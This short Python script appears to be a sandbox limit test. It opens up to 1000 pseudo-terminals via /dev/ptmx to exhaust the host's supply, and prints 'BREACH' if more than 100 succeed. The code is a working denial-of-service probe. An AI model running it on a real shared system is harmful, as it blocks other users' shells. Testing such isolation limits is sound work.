"""Opens all pseudo-terminals of the host, so that nobody's shell commands run any more.

must: A notebook has 64, or is ended for them.
kernel: own
slow: yes
"""
import os, time
held = []
try:
    while len(held) < 1000:
        held.append(os.open('/dev/ptmx', os.O_RDWR))
except OSError as error:
    print(error)
time.sleep(3)
print('BREACH' if len(held) > 100 else len(held))
